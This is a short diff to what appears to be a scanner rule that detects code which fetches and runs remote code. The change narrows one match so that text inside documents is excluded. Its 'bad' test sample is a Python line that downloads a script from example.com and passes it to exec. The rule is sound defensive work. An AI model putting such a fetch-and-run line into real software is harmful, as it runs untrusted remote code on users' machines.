@@ -1,4 +1,4 @@
-import { any, argument, call, from, says } from "../match.ts";
+import { all, any, argument, call, from, inDocument, not, says } from "../match.ts";
 import { defineRule } from "../rule.ts";
 import { FETCH_AND_RUN } from "../vocabulary/commands.ts";
 import { CODE_RUNNERS, COMMANDS } from "../vocabulary/execution-calls.ts";
@@ -36,7 +36,7 @@ export default defineRule({
         argument("input", from(downloaded)),
       ),
     }),
-    call({ of: WINDOWS_LINES, where: argument(0, says(FETCH_AND_RUN)) }),
+    call({ of: WINDOWS_LINES, where: all(not(inDocument), argument(0, says(FETCH_AND_RUN))) }),
   ],
   bad: [
     'import requests\nexec(requests.get("https://example.com/a.py").text)',
